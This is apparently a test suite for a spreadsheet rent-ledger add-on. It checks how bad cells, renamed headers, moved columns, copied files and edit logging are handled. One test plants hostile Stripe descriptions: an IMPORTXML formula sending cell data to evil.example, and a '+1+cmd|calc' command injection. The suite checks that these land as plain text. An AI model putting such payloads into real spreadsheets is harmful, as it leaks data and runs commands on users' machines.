/** What people do to their tabs: columns moved, headers lost, bad cells, copies of the file; the rest goes on, and is told. */
import { cellOf, headersOf } from '../../local/cli/tabs';
import { columnName } from '../../local/host/workbook/a1';
import {
  askApi,
  bookOf,
  callApi,
  ELM,
  intentOf,
  leapTo,
  leaseOf,
  loadStripe,
  slackTexts,
  smallWorld,
  tabOf,
  typeInto,
  verdictOf,
  type World,
} from '../worlds';

const MORNING = '2026-12-01T14:30:00Z';

const base = smallWorld({ on: '2026-11-30', leases: ['L-1', 'L-2', 'L-3'].map((id) => leaseOf(id)) });
leapTo(base, '2026-11-30T15:00:00Z');

interface Daily {
  readonly daily: { readonly result: string; readonly charges: number; readonly problems: readonly string[] };
  readonly trouble?: string;
}
const daily = (world: World): Daily => askApi<Daily>(world, 'daily');
const charged = (world: World): readonly string[] =>
  bookOf(world)
    .entries.filter((row) => row.kind === 'charge')
    .map((row) => row.key);

const sheetId = (world: World, title: string): number => world.workbook.state.byTitle(title)?.id ?? -1;
const batch = (world: World, ...requests: readonly object[]) =>
  world.workbook.api('spreadsheets.batchUpdate', { spreadsheetId: world.workbook.id }, { requests });

/** The header cell of a column; the file's owner types there. */
const header = (world: World, tab: string, name: string, text: string) => {
  const at = headersOf(world, tab).indexOf(name);
  world.workbook.edit(tab, `${columnName(at)}1`, text, world.owner);
};

describe('a bad cell', () => {
  const cells: readonly (readonly [string, string, string, RegExp])[] = [
    ['text in Rent', 'Rent', 'seventeen', /Leases row 3, Rent: .*seventeen/],
    ['no Rent', 'Rent', '', /Leases row 3, Rent/],
    ['a rent below nothing', 'Rent', '-5', /Leases row 3, Rent/],
    ['31 February', 'Start', '2026-02-31', /Leases row 3, Start: .*2026-02-31/],
    ['an unknown frequency', 'Frequency', 'sometimes', /Leases row 3, Frequency: .*sometimes/],
    ['a due day that is none', 'Due day', '32', /Leases row 3, Due day: .*32/],
    ['a formula that fails', 'Rent', '=1/0', /Leases row 3, Rent: .*#DIV\/0!/],
    ['a reference that is gone', 'Property', '=#REF!', /Leases row 3, Property: .*#REF!/],
    ['an unknown property', 'Property', 'Oak House', /Leases row 3, Property: .*Oak House/],
    ['an id that is taken', 'Lease ID', 'L-1', /Leases row 3, Lease ID: .*L-1/],
  ];

  it.each(cells)('(%s) is a problem with its place, and every other lease runs', (_name, column, text, words) => {
    const world = base.clone();
    typeInto(world, 'Leases', 'L-2', column, text);
    world.state.nowMs = Date.parse(MORNING);
    const { problems } = daily(world).daily;
    expect(problems.join('\n')).toMatch(words);
    expect(charged(world)).toContain('rent:L-3:2026-12');
    expect(charged(world)).not.toContain('rent:L-2:2026-12');
    expect(verdictOf(world).ok).toBe(true);
  });

  it('in the mail column is told, and the lease is charged all the same', () => {
    const world = base.clone();
    typeInto(world, 'Leases', 'L-2', 'Email', 'not an address');
    world.state.nowMs = Date.parse(MORNING);
    expect(daily(world).daily.problems.join('\n')).toMatch(/Leases row 3, Email: .*not an address/);
    expect(charged(world)).toHaveLength(3);
  });

  it('that holds a secret is told without the secret, and the Log never holds it', () => {
    const world = base.clone();
    const secret = 'https://hooks.slack.com/services/T0SECRET/B0SECRET/abcdefghijklmnop';
    typeInto(world, 'Leases', 'L-2', 'Notes', secret);
    typeInto(world, 'Properties', 'Elm House', 'Slack webhook', secret);
    typeInto(world, 'Leases', 'L-3', 'Notes', `key sk_${'live'}_0123456789abcdef`);
    world.state.nowMs = Date.parse(MORNING);
    daily(world);
    const told = JSON.stringify([
      tabOf(world, 'Log'),
      tabOf(world, 'Rent Roll'),
      tabOf(world, 'Properties'),
      slackTexts(world),
    ]);
    expect(told).not.toMatch(/abcdefghijklmnop|0123456789abcdef/);
    expect(charged(world)).toHaveLength(3);
  });

  it('shows its problem on the Rent Roll or in the digest until it is mended', () => {
    const world = base.clone();
    typeInto(world, 'Leases', 'L-2', 'Rent', 'seventeen');
    world.state.nowMs = Date.parse(MORNING);
    daily(world);
    typeInto(world, 'Leases', 'L-2', 'Rent', '1000');
    leapTo(world, '2026-12-02T14:30:00Z');
    expect(charged(world)).toContain('rent:L-2:2026-12');
  });
});

describe('a header', () => {
  const people: readonly (readonly [string, string])[] = [
    ['Leases', 'Notes'],
    ['Leases', 'Phone'],
    ['Properties', 'Late fee cap'],
    ['Terms', 'Memo'],
    ['Links', 'Kind'],
    ['Ladder', 'Task'],
    ['Templates', 'Language'],
    ['Settings', 'What it means'],
  ];

  it.each(people)('of %s that was renamed (%s) is a named problem, and rents are charged', (tab, name) => {
    const world = base.clone();
    header(world, tab, name, 'Something else');
    world.state.nowMs = Date.parse(MORNING);
    const report = daily(world);
    expect(report.daily?.problems.join('\n') ?? report.trouble).toMatch(
      new RegExp(`${tab} row 1, ${name}: The header is missing.*Put the header back`),
    );
    expect(charged(world)).toHaveLength(3);
  });

  it('of Leases that stands twice is a named problem, and rents are charged', () => {
    const world = base.clone();
    header(world, 'Leases', 'Notes', 'Phone');
    world.state.nowMs = Date.parse(MORNING);
    expect(daily(world).daily.problems.join('\n')).toMatch(
      /Leases row 1, Phone: There are 2 columns with this header\. Rename all but one/,
    );
    expect(charged(world)).toHaveLength(3);
  });

  it('of the Ledger that was renamed stops the run in words, and Set up is not needed to undo it', () => {
    const world = base.clone();
    header(world, 'Ledger', 'Amount', 'Sum');
    const before = JSON.stringify(world.workbook);
    const called = callApi(world, 'daily');
    expect(JSON.stringify(called.ok ? called.value : called.error)).toMatch(
      /Ledger row 1, Amount: The header is missing.*Nothing was written/,
    );
    expect(JSON.stringify(world.workbook)).toBe(before);
  });
});

describe('columns', () => {
  it('that people move and add on every tab change nothing', () => {
    const plain = base.clone();
    const world = base.clone();
    const titles = world.workbook.state.sheets.map((sheet) => sheet.title);
    for (const title of titles) {
      if (title === 'State' || title === 'Openings' || title === 'Dashboard') continue;
      batch(
        world,
        {
          insertDimension: {
            range: { sheetId: sheetId(world, title), dimension: 'COLUMNS', startIndex: 2, endIndex: 3 },
          },
        },
        {
          moveDimension: {
            source: { sheetId: sheetId(world, title), dimension: 'COLUMNS', startIndex: 0, endIndex: 1 },
            destinationIndex: 4,
          },
        },
      );
      world.workbook.edit(title, 'B1', 'My own', world.owner);
      world.workbook.edit(title, 'B2', 'mine', world.owner);
    }
    for (const one of [plain, world]) {
      loadStripe(one, [intentOf('pi_Dec', 'L-1', 100_000, '2026-12-01T13:00:00Z')]);
      for (const at of [MORNING, '2026-12-01T15:00:00Z', '2026-12-02T14:30:00Z']) leapTo(one, at);
    }
    const facts = (one: World) => {
      const { leases, entries, receipts, outbox } = bookOf(one);
      return [
        leases,
        entries.map((row) => row.key),
        receipts.map((row) => [row.key, row.state]),
        outbox.map((row) => [row.key, row.state]),
      ];
    };
    expect(facts(world)).toEqual(facts(plain));
    expect(verdictOf(world)).toMatchObject({ ok: true, problems: [] });
    expect(tabOf(world, 'Leases')[0]?.['My own']).toBe('mine');
  });
});

describe('a deleted lease row', () => {
  it('with money open is told, and the other leases run', () => {
    const world = base.clone();
    leapTo(world, MORNING);
    world.workbook.deleteRows('Leases', 3);
    world.state.nowMs = Date.parse('2026-12-02T14:30:00Z');
    expect(daily(world).daily.problems.join('\n')).toMatch(/Lease L-2 has open money in the Ledger, but no row/);
    expect(verdictOf(world).ok).toBe(true);
  });
});

describe('what Stripe says of a payer', () => {
  it('lands as text, and card numbers are masked', () => {
    const world = base.clone();
    const hostile = {
      description: '=IMPORTXML("https://evil.example/?"&A1) card 4242 4242 4242 4242',
      receipt_email: 'stranger@example.net',
    };
    loadStripe(world, [
      intentOf('pi_Evil', '', 1_000, '2026-12-01T13:00:00Z', hostile),
      intentOf('pi_Plus', 'L-1', 2_000, '2026-12-01T13:00:00Z', { description: '+1+cmd|calc' }),
    ]);
    leapTo(world, MORNING);
    leapTo(world, '2026-12-01T15:00:00Z');
    const memos = tabOf(world, 'Receipts').map((row) => row.Memo ?? '');
    expect(memos.some((memo) => memo.startsWith('=IMPORTXML'))).toBe(true);
    expect(memos).toContain('+1+cmd|calc');
    expect(JSON.stringify([tabOf(world, 'Receipts'), tabOf(world, 'Ledger'), tabOf(world, 'Log')])).not.toMatch(
      /4242[ -]?4242/,
    );
    for (const title of ['Receipts', 'Ledger', 'Log', 'Outbox', 'Tasks', 'Rent Roll']) {
      const cells = JSON.stringify(
        world.workbook.api('spreadsheets.get', {
          ranges: `'${title}'!A1:Z60`,
          fields: 'sheets.data.rowData.values.userEnteredValue',
        }),
      );
      expect([title, cells.includes('formulaValue')]).toEqual([title, false]);
    }
  });
});

describe('the file', () => {
  it('that is a copy writes nothing until it is set up, and then is a ledger of its own', () => {
    const world = base.clone();
    (world.workbook.state as { spreadsheetId: string }).spreadsheetId = '1CopyOfTheFile0000000000000000000000000000';
    const before = JSON.stringify([world.workbook, world.mailbox.length]);
    world.state.nowMs = Date.parse(MORNING);
    for (const handler of ['tick', 'poll']) {
      loadStripe(world, [intentOf(`pi_${handler}`, 'L-1', 500, '2026-12-01T13:00:00Z')]);
      const run = world.run(handler, [], { trigger: 'time' });
      expect([handler, run.ok, run.value]).toMatchObject([handler, true, { trouble: expect.any(String) }]);
      expect((run.value as { trouble?: string }).trouble).toMatch(
        /copy of another rent ledger.*writes nothing.*Set up/,
      );
    }
    expect(askApi(world, 'repair')).toMatchObject({ repaired: false });
    expect(JSON.stringify([world.workbook, world.mailbox.length])).toBe(before);
    askApi(world, 'setUp', [{}]);
    expect(daily(world).daily.charges).toBe(3);
    expect(verdictOf(world).ok).toBe(true);
  });

  it('that is set up twice more is not changed', () => {
    const world = base.clone();
    leapTo(world, MORNING);
    const options = { zone: 'America/New_York', currency: 'USD', booksOpenOn: '2026-11-30', reminders: 'on' };
    askApi(world, 'setUp', [options]);
    const [before, triggers] = [JSON.stringify(world.workbook), world.triggers.length];
    expect(askApi(world, 'setUp', [options])).toMatchObject({ created: [] });
    expect(JSON.stringify(world.workbook)).toBe(before);
    expect(world.triggers).toHaveLength(triggers);
    expect(verdictOf(world).ok).toBe(true);
  });
});

describe('the edit trigger', () => {
  it('writes who changed what from what to what, for one cell and for a paste', () => {
    const world = base.clone();
    const a1 = cellOf(world, 'Leases', 'L-2', 'Rent');
    typeInto(world, 'Leases', 'L-2', 'Rent', '1200', 'helper@example.com');
    world.paste('Leases', cellOf(world, 'Leases', 'L-3', 'Notes'), [['a'], ['b']], 'helper@example.com');
    world.workbook.edit('Leases', a1, '1200', world.owner);
    const edits = tabOf(world, 'Log').filter((row) => row.Kind === 'edit');
    expect(edits.map((row) => [row.Who, row.What, row.Before, row.After])).toEqual([
      ['helper@example.com', `Leases!${a1} edited`, '1000', '1200'],
      ['helper@example.com', expect.stringMatching(/^Leases!R4:R5 edited \(several cells\)$/), '', ''],
    ]);
    expect(verdictOf(world).ok).toBe(true);
  });

  it('tells of an edit on a tab of the add-on too, and none on a tab of somebody else', () => {
    const world = base.clone();
    world.edit('Rent Roll', 'A3', 'L-9', ELM['Manager email']);
    batch(world, { addSheet: { properties: { title: 'My sums' } } });
    world.edit('My sums', 'A1', '1');
    const edits = tabOf(world, 'Log').filter((row) => row.Kind === 'edit');
    expect(edits.map((row) => row.What)).toEqual(['Rent Roll!A3, a tab of the add-on, edited']);
  });
});
